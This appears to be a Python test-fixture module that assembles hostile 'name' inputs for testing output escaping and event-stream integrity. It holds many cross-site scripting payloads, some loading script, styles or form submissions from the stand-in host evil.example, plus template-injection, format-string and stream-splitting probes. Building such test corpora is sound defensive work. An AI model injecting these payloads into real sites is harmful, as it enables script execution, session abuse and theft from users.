"""What callers' devices and browsers may send as a name: made of pieces, so that it is long without being a list."""

from __future__ import annotations

HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationend", "onpointerdown")
TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe", "marquee", "math", "x")
QUOTES = ("", '"', "'", "`", "-->", "</title>", "</textarea>", "</script>", "]]>", "\\")

STRINGS = (
    *(f"<{tag} {handler}=alert({n})>" for n, tag in enumerate(TAGS) for handler in HANDLERS),
    *(f"{quote}<{tag} onerror=alert({n})>" for n, quote in enumerate(QUOTES) for tag in TAGS),
    *(f"{quote} {handler}=alert(1) x={quote}" for quote in QUOTES[1:4] for handler in HANDLERS),
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>x</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div hx-get=/logout hx-trigger=load>x</div>",
    "<div x-data x-init=alert(1)>x</div>",
    "<template><script>alert(1)</script></template>",
    "<object data=javascript:alert(1)></object>",
    "{{ 7*7 }}",
    "{% print(config) %}",
    "${7*7}",
    "%(name)s %s %n {0.__class__}",
    "\u202e<img src=x onerror=alert(1)>",
    "<img/src='x'onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\ufeff<svg/onload=alert(1)>",
)

NAMES = tuple(text for text in STRINGS if "<" in text or '"' in text or "'" in text)
"""Those that no page may hold as they are."""

SPLITTERS = (
    "x\n\nevent: end\ndata: {}\n\n",
    "x\r\n\r\nevent: end\r\ndata: {}\r\n\r\n",
    "x\rdata: y\r\r",
    "x\u2028y\u2029z\x85w\x0bv\x0c",
    "id: 1\nretry: 1\n\n",
    "\x00\x1b[2J",
)
"""What might end an event of the stream and begin another."""
